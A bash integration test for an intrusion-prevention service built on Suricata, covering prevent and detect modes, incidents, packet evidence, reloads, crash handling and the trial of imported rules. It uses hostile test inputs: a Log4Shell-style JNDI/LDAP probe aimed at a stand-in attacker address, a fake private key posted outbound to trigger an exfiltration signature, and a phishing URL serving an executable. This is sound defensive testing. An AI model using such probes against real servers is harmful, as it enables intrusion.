#!/bin/bash
# Intrusion prevention on real packets: two bodies, one prevents, one only detects; what passes while Suricata doesn't run;
# changes while connections run. The signatures by themselves: each has a capture that makes it speak and one that doesn't.
cd "$(dirname "$0")/../.."
[ "$(id -u)" = 0 ] || { echo "1..0 # SKIP needs root"; echo "ok 1 - ips # SKIP needs root"; exit 0; }
# A mount namespace of its own: a Suricata that can't start is made by covering its program.
if [ "${1:-}" != inside ]; then exec unshare -m --propagation private bash "$0" inside; fi
export TORIDE_LAB=tp TORIDE_SOURCE=$PWD LC_ALL=C.UTF-8
T=$PWD/build/toride D=$PWD/build/lab-tp
top=$(mktemp -d /tmp/toride-ips.XXXXXX); bad=0
. "$(dirname "$0")/lib.sh"
show=("$D/log/torided.log")
finish() { "$T" lab down 2>/dev/null; umount -q /usr/bin/suricata 2>/dev/null; rm -rf "$top"; }
trap finish EXIT
node() { TORIDE_STATE=$D/state TORIDE_RUN=$D/run "$T" "$@"; }
on() { local host=$1; shift; ip netns exec "tp-$host" "$@"; }
fetch() { on "$1-pc1" curl -sS --max-time 20 -x http://192.0.2.10:8080 "$2"; }
attack=http://login.phish.example/photo.png honest=http://www.news.example/
gets() { fetch "$1" "$2" >"$top/got" 2>&1; sed 's/<[^>]*>//g' "$top/got" | grep . | head -c 600 | tr '\0' '.'; grep -qa "$3" "$top/got"; }
records() { node log tail -n 100000 "$@" | sed 's/^[^{]*//'; } # without their names
lines() { is "$(cat "$D/run/ips")" "$1"; }
apply() { put_in_force node "$1"; }

# ---- signatures, one by one ----
python3 test/ips/captures.py "$top/captures" || exit 1
"$T" compile test/golden/ips/description -o "$top/out" >/dev/null
try "each signature of ours has a capture that makes it speak, and one that doesn't" is "$(cd "$top/captures" && printf '%s\n' fire/*.pcap silent/*.pcap | sort)" \
	"$(grep -oE 'sid:[0-9]+' rules/ips/*.rules | sed -E 's#.*:([0-9]+)#fire/\1.pcap\nsilent/\1.pcap#' | sort)"
sed -E "s#/var/lib/toride/current#$top/out#; s#/run/toride/suricata#$top/said#; s#/run/toride/eve.sock#eve.json#
	s/unix_stream/regular/; /feeds.ips/d; /^unix-command/,+2d; s/^runmode:.*//" "$top/out/suricata/suricata.yaml" >"$top/suricata.yaml"
hears() { # CAPTURE -> "GID:SID ACTION" of each alert
	rm -rf "$top/said"; mkdir "$top/said"
	suricata --runmode single --simulate-ips -k all -c "$top/suricata.yaml" -r "$1" -l "$top/said" >"$top/suricata.log" 2>&1 || { echo "suricata failed"; return; }
	[ -s "$top/said/eve.json" ] || { echo "no eve.json"; return; } # its own statistics at least
	jq -r 'select(.event_type=="alert")|"\(.alert.gid):\(.alert.signature_id) \(.alert.action)"' "$top/said/eve.json"
}
for f in "$top"/captures/fire/*.pcap; do
	sid=$(basename "$f" .pcap)
	try "signature $sid speaks of what it is for, and drops" is "$(hears "$f")" "1:$sid blocked"
	try "signature $sid is silent on what is near to it" is "$(hears "$top/captures/silent/$sid.pcap")" ""
done
for f in "$top"/captures/evade/*.pcap; do
	try "an attack in odd pieces is stopped: $(basename "$f" .pcap)" is "$(hears "$f")" "1:$(basename "$f" | cut -d- -f1) blocked"
done
for f in "$top"/captures/clean/*.pcap; do
	try "no signature speaks of ordinary traffic: $(basename "$f" .pcap)" is "$(hears "$f")" ""
done
sed 's/PREVENT_NET/KEEP/; s/DETECT_NET:/PREVENT_NET:/; s/KEEP/DETECT_NET/' "$top/suricata.yaml" >"$top/other.yaml"; mv "$top/other.yaml" "$top/suricata.yaml"
try "the same signature only alerts for a body that detects" is "$(hears "$top/captures/fire/9100001.pcap")" "2:9100001 allowed"
try "and names the packets that follow in that connection, which are evidence too" jq -se '(map(select(.event_type == "alert"))[0].flow_id) as $f | map(select(.event_type == "packet")) | length >= 1 and all(.flow_id == $f and (.packet | length > 50))' "$top/said/eve.json"

# ---- two bodies ----
cp -r test/golden/ips/description "$top/d"
sed -i -E 's/"rules": \["[0-9a-f]+"\]/"rules": []/' "$top/d/service.json"
# Asking for a page again and again until it comes is what a C&C beacon does, and would be blocked as one: not what a body's white list names.
for f in "$top"/d/orgs/*.json; do jq '.url.white = ["login.phish.example", "www.news.example"] | .sites |= .[:if $f[-11:] == "412015.json" then 2 else 1 end] | .sites[1:][].waf = "detect"' --arg f "$f" "$f" >"$f.new" && mv "$f.new" "$f"; done
"$T" lab up "$top/d" >"$top/try" 2>&1; ok $? "a lab of two bodies, with an inspected line"
try "the line is inspected" lines inspect
try "honest pages pass for the one that prevents" gets 412015 $honest "today's news"
try "and for the one that detects" gets 412023 $honest "today's news"
try "an attack on the one that prevents is stopped, and the page says so at once" gets 412015 $attack "P-20"
try "for the one that only detects it passes" gets 412023 $attack "This program cannot"

# ---- what the watch makes of it ----
# What the incidents of a body say, whole: another rule may have opened one for the same terminal's call before, and this joins it.
incidents() { local i; for i in $(node incident list --org "$1" --json | jq -r .number); do node incident show "$i"; done; }
incident() { incidents "$1" | grep -q "$2"; } # ORG, words of it
try "the body that prevents has an incident of it" until_true 40 incident 412015 "holds an attack"
try "so has the one that only detects" until_true 40 incident 412023 "holds an attack"
try "stopped for the one" incident 412015 "All of what looks like an attack was refused"
try "passed for the other" incident 412023 "What looks like an attack got through"
# ---- public sites: in TLS as far as the node, in the clear from there to the body's server, inspected there. The WAF only tells here.
visit() { # ORG PATH [SITE]: status and page
	local name=${3:-www.$1.lg.example}
	on inet curl -sS -g --max-time 20 --cacert "$D/internet/ca.pem" --interface 203.0.113.77 --resolve "$name:443:198.51.100.3" -w '\n%{http_code}\n' "https://$name$2"
}
shows() { local org=$1 path=$2 want=$3; shift 3; visit "$org" "$path" "$@" >"$top/got" 2>&1; cat "$top/got"; grep -qF -- "$want" "$top/got"; }
probe='/?q=%24%7Bjndi:ldap://203.0.113.77/a%7D'
noticed() { # ORG DISPOSITION MODE ORIGIN SITE
	records --org "$1" | jq -se --arg d "$2" --arg m "$3" --arg o "$4" --arg s "$5" 'any(.[]; .product == "suricata" and .rule.uid == "9100001" and .disposition == $d and .mode == $m and
		.src_endpoint.ip == "203.0.113.77" and .dst_endpoint.ip == $o and .dst_endpoint.hostname == $s and .connection_info.direction == "Inbound")'
}
try "a public site's page comes over the inspected leg" shows 412015 / "412015 www.412015.lg.example asked by 203.0.113.77 from 100.64.1.1"
try "so does the other body's, whose server has the same address" shows 412023 / "412023 www.412023.lg.example asked by 203.0.113.77 from 100.64.2.1"
try "an attack in TLS that the WAF lets pass doesn't reach the server of the body that prevents" shows 412015 "$probe" 503
try "that of the one that detects it does" shows 412023 "$probe" "412023 www.412023.lg.example asked by"
v6=bousai.412015.lg.example
try "a site whose server is asked by IPv6 comes over the leg too" shows 412015 / "412015 $v6 asked by 203.0.113.77 from fd00:64:1::1" $v6
try "and what attacks it doesn't reach that server" shows 412015 "$probe" 503 $v6
try "and the next visitor's page comes" shows 412015 / "asked by 203.0.113.77 from 100.64.1.1"
try "it is a record of the site's body, with the visitor and the server" until_true 20 noticed 412015 Blocked prevent 10.1.0.80 www.412015.lg.example
try "of the one by IPv6 too, by its true address" until_true 20 noticed 412015 Blocked prevent 2001:db8:4101::80 $v6
try "of the other's too" until_true 20 noticed 412023 Allowed detect 10.1.0.80 www.412023.lg.example
try "and an incident of each" until_true 40 eval 'incident 412015 "Somebody on the Internet attacks what a body publishes" && incident 412015 "address: 203.0.113.77" && incident 412023 "address: 203.0.113.77"'
try "and the log is intact" eval 'node log verify >/dev/null'

# ---- the packets, as evidence: of the body that keeps them (packet_days), sealed, handed out with the incident as a capture
kept() { records --org "$1" | jq -se 'any(.[]; .packet and .product == "suricata")'; }
try "packets of what was stopped are kept, for the body that keeps such" until_true 20 kept 412015
try "none for the other, nor of anybody else" eval '! kept 412023 && [ -d "$D/state/segments/412015/packets" ] && [ "$(find "$D/state/segments" -type d -name packets | wc -l)" = 1 ]'
about() { local i; for i in $(node incident list --org 412015 --json | jq -r .number); do ! node incident show "$i" | grep -q "$1" || { echo "$i"; return; }; done; }
attacked=$(about "holds an attack")
hand_out() { node --as kanri log export --incident "$1" --for "request 7" -o "$top/$1.tar" && mkdir -p "$top/out" && tar -xf "$top/$1.tar" -C "$top/out"; }
try "its incident is handed out with them" hand_out "$attacked"
try "in a capture that tcpdump reads: the page that was stopped" eval 'tcpdump -nnr "$top/out/packets.pcapng" -A 2>"$top/tcpdump" | tee "$top/packets" | grep -aF "This program cannot" && ! grep -a "truncated\|bad" "$top/tcpdump"'
try "of that body's connection alone" eval 'tcpdump -nnr "$top/out/packets.pcapng" "not host 198.51.100.101" 2>/dev/null | is "$(cat)" ""'
try "each bears the name of its record" eval 'count=$(jq -r .name "$top/out/records.jsonl" | grep -c /packets/) && [ "$count" -ge 1 ] && is "$(grep -ao "412015/packets/[0-9]*/[0-9]*" "$top/out/packets.pcapng" | sort -u | wc -l)" "$count"'
elsewhere() { TORIDE_STATE=/nonexistent TORIDE_RUN=/nonexistent "$T" log verify "$@"; }
try "and is proven by it, elsewhere" eval 'elsewhere "$top/$attacked.tar" --json | tail -n 1 | jq -se ".[0] | .ok and .packets >= 1"'
try "a capture somebody has altered isn't" eval 'perl -pi -e "s/This program/That program/" "$top/out/packets.pcapng" && ! elsewhere "$top/out" >"$top/elsewhere" && grep -F "packets.pcapng: altered" "$top/elsewhere"'

# ---- changes while connections run ----
cp -r "$D/description" "$top/e"
sed -i 's/"ips": "detect"/"ips": "prevent"/' "$top/e/orgs/412023.json"
pid=$(cut -d' ' -f1 "$D/run/pids/suricata")
(cd "$top" && on 412015-pc1 curl -sS --max-time 60 -x http://192.0.2.10:8080 --limit-rate 400k -o slow http://www.news.example/1m.bin; echo $? >"$top/slow.code") &
try "the second body changes to prevent, by a reload" apply "$top/e"
try "the process is the same" is "$(cut -d' ' -f1 "$D/run/pids/suricata")" "$pid"
try "the attack is stopped for it too" gets 412023 $attack "P-20"
wait
try "a download that ran all the while is whole" eval 'is "$(cat "$top/slow.code") $(stat -c %s "$top/slow")" "0 1048576"'
try "back" node rollback
try "and it only detects again" gets 412023 $attack "This program cannot"

# ---- Suricata dies ----
kill -9 "$pid"
try "killed: it is back and inspects" until_true 30 eval 'lines inspect && [ "$(cut -d" " -f1 "$D/run/pids/suricata")" != "$pid" ]'
try "and stops attacks" until_true 10 gets 412015 $attack "P-20"
dead() { mount --bind /bin/false /usr/bin/suricata && kill -9 "$(cut -d' ' -f1 "$D/run/pids/suricata")"; }
dead; try "it can't start: a line described as a bridge is one" until_true 15 lines bridge
try "honest pages pass" until_true 10 gets 412015 $honest "today's news"
try "uninspected" until_true 10 gets 412015 $attack "This program cannot"
try "so do the public sites'" until_true 10 shows 412015 "$probe" "412015 www.412015.lg.example asked by"
try "the watch is told" grep -q "nobody inspects the lines: packets pass uninspected" "$D/log/torided.log"
umount /usr/bin/suricata
try "it can start again: inspected" until_true 60 lines inspect
try "the attack is stopped" until_true 10 gets 412015 $attack "P-20"
try "so is the one on the public site" until_true 10 shows 412015 "$probe" 503
cp -r "$D/description" "$top/f"
sed -i -E 's/"fail": ?"bridge"/"fail": "closed"/' "$top/f/service.json"
try "the line is to be closed when nobody inspects (a restart)" apply "$top/f"
try "and honest pages pass" until_true 10 gets 412015 $honest "today's news"
dead; try "it can't start: the line is closed" until_true 15 lines closed
on gw1 ping -c 2 -i 0.2 -W 1 198.51.100.1 >"$top/try" 2>&1; [ $? -eq 1 ]; ok $? "nothing passes"
umount /usr/bin/suricata
try "it can start again: inspected" until_true 60 lines inspect
try "and pages pass" until_true 10 gets 412015 $honest "today's news"

# ---- signatures from outside: clean captures, a trial, then they drop ----
cat >"$top/source.rules" <<'END'
alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"EX speaks on trial"; flow:established,to_server; http.uri; content:"/ips-speaks"; sid:2000001; rev:1;)
alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"EX silent on trial"; flow:established,to_server; http.uri; content:"/ips-silent"; sid:2000002; rev:1;)
alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"EX speaks of clean traffic"; flow:established,to_client; file.data; content:"This program cannot be run"; sid:2000003; rev:1;)
alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"EX can't be loaded"; http.uri; content:"x"; pcre:"/(/"; sid:2000004; rev:1;)
alert http any any -> any any (msg:"EX runs code"; lua:x.lua; sid:2000005; rev:1;)
END
rules() { node ips rules "$@" --json >"$top/said.json" && book=$(jq -rs '.[-1].digest' "$top/said.json") && [ "${#book}" = 64 ]; } # $digest is put_in_force's
said() { jq -se "$1" "$top/said.json"; }
audited() { records | jq -se --arg o "$1" --arg s "$2" --arg m "$3" 'any(.[]; .api.operation == $o and .status == $s and .actor.user == "sato" and (.message | contains($m)))'; }
with_rules() { # DIGEST SECONDS: in force with that trial
	rm -rf "$top/r"; cp -r "$top/f" "$top/r" && sed -i -E 's/"rules": ?\[\]/"rules": ["'"$1"'"], "trial_s": '"$2"'/' "$top/r/service.json" && apply "$top/r"
}
try "a source is taken in" rules import "$top/source.rules" --source ex --as sato
try "what speaks of a clean capture is refused, with its name" said 'any(.[]; .sid == 2000003 and .state == "refused" and .where == "updates.pcap")'
try "so is what Suricata can't load, and what runs code" said 'any(.[]; .sid == 2000004 and .where == "engine") and any(.[]; .where == "line-5")'
try "the others are on trial" said '.[-1] | .trial == 2 and .acting == 0 and .refused == 3'
try "the refusals are on record" until_true 10 audited ips.rules.import Failure "2000003 refused: it speaks of clean traffic (updates.pcap)"
refuses() { local want=$1; shift; "$@" >"$top/refused" 2>&1 && return 1; cat "$top/refused"; grep -q "$want" "$top/refused"; }
try "they are put into force by a change of the description" with_rules "$book" 86400
# Of a connection that is older than the inspection, as one the proxy keeps over a restart, the first request is judged with the next.
try "one on trial lets pass" until_true 10 gets 412015 http://www.news.example/ips-speaks "404"
try "and alerts; the record says that it is on trial" until_true 20 eval 'gets 412015 http://www.news.example/ips-speaks "404" && records --org 412015 | jq -se "any(.[]; .rule.uid == \"2000001\" and .mode == \"trial\" and .disposition == \"Allowed\")"'
try "none may drop before its trial is over" refuses "not long enough on trial" node ips rules promote --source ex --sid 2000002
try "the trial is shortened: a change of two people" with_rules "$book" 5
try "the one that was named may drop now, whatever it said" until_true 30 rules promote --source ex --sid 2000001 --as sato
if [ -e "$PWD/build/libchdb.so" ]; then
	try "without a name, only those that were silent" until_true 30 eval 'rules promote --source ex --as sato && said ".[-1] | .moved == 1 and .spoke == 1 and .acting == 1"'
else
	try "without a name, only those that were silent" rules promote --source ex --sid 2000002 --as sato
fi
try "that is on record" until_true 10 audited ips.rules.promote Success "$book: 1 moved"
try "in force" with_rules "$book" 5
try "the silent one drops" until_true 10 gets 412015 http://www.news.example/ips-silent "P-20"
try "for the body that only detects it doesn't" gets 412023 http://www.news.example/ips-silent "404"
try "the other one is on trial still" gets 412015 http://www.news.example/ips-speaks "404"
try "the list says so" eval 'node ips rules list --all --json >"$top/said.json" && said "any(.[]; .sid == 2000002 and .state == \"acting\") and any(.[]; .sid == 2000001 and .state == \"trial\" and .trial_s >= 5)"'
try "rolled back" node rollback
try "it is on trial again" gets 412015 http://www.news.example/ips-silent "404"

# ---- a configuration it refuses, a rule file that isn't the one named ----
mkdir -p "$D/state/feeds/ips"
echo 'alert tcp any any -> $HOME_NET any (msg:"x"; content:"unended; sid:1; gid:1;)' >"$top/broken.rules"
hex=$(sha256sum <"$top/broken.rules" | cut -d' ' -f1)
cp -r "$D/description" "$top/g"; sed -i -E 's/"rules": ?\[\]/"rules": ["'"$hex"'"]/' "$top/g/service.json"
broken=$(node submit "$top/g" --as sato); node approve "$broken" --as suzuki >/dev/null
try "a rule file that isn't on the node: refused" refuses "isn't on this node" node apply "$broken" --as sato
echo "# another" >"$D/state/feeds/ips/$hex.rules"
try "one that isn't what its name says: refused" refuses "not the file" node apply "$broken" --as sato
cp "$top/broken.rules" "$D/state/feeds/ips/$hex.rules"
try "one that Suricata can't read: refused" refuses "suricata" node apply "$broken" --as sato
try "the line is inspected all the while" lines inspect

# ---- a site whose server stands elsewhere: the same leg, and out by the line
cp -r "$D/description" "$top/s"
on inet python3 -c 'import http.server as h
class H(h.BaseHTTPRequestHandler):
	protocol_version = "HTTP/1.1"
	def do_GET(s): b = b"elsewhere asked by %s\n" % s.headers["X-Forwarded-For"].encode(); s.send_response(200); s.send_header("Content-Length", str(len(b))); s.end_headers(); s.wfile.write(b)
h.ThreadingHTTPServer(("203.0.113.12", 8080), H).serve_forever()' >/dev/null 2>&1 & elsewhere=$!
jq '.sites[0].origins[0] += {addr: "203.0.113.12", port: 8080}' "$top/s/orgs/412023.json" >"$top/new" && cp "$top/new" "$top/s/orgs/412023.json"
try "a site's server moves to the Internet" apply "$top/s"
try "its pages come" until_true 10 shows 412023 / "elsewhere asked by 203.0.113.77"
try "and what is inspected names it" until_true 20 eval 'shows 412023 "$probe" elsewhere && noticed 412023 Allowed detect 203.0.113.12 www.412023.lg.example'
kill $elsewhere; wait $elsewhere 2>/dev/null

# ---- what the proxy decrypts (last: what got through is an incident whose sites the cloud may block by itself) ----
printf '%s\nMIIE\n' '-----BEGIN RSA PRIVATE KEY-----' >"$top/key"
sends() { on "$1-pc1" curl -sS --max-time 20 --cacert "$D/run/ca.pem" -x http://192.0.2.10:8080 --data-binary "@$top/key" -o /dev/null -w '%{http_code}' https://saas.example/ | grep -Eq '^[245]'; }
seen() { # ORG, its terminal's own address
	records --org "$1" | jq -se --arg ip "$2" 'any(.[]; .product == "suricata" and .rule.uid == "9100011" and .mode == "detect" and .src_endpoint.ip == $ip and
		.dst_endpoint.port == 443 and .http_request.url.hostname == "saas.example" and .connection_info.direction == "Outbound")'
}
# What is mirrored is a copy, and a copy may be lost on a busy machine: then it is sent again, a few times.
speaks() { seen "$@" || { sends "$1"; until_true 2 seen "$@"; }; }
try "a key is sent over TLS, which nobody on the line sees into" sends 412015
try "but of what the proxy decrypted the signature speaks, and names the terminal" until_true 10 speaks 412015 10.1.0.5
try "so it does for the other body, whose terminal has the same address" until_true 10 speaks 412023 10.1.0.5
try "frames are counted, and those that were dropped" until_true 10 eval 'node status --json | jq -se "any(.[].counters[]; .org == \"412015\" and .proxyd.mirrored > 10 and (.proxyd | has(\"unmirrored\")))"'
"$T" lab down; ok $? "lab down"
echo "1..$n"
exit $bad
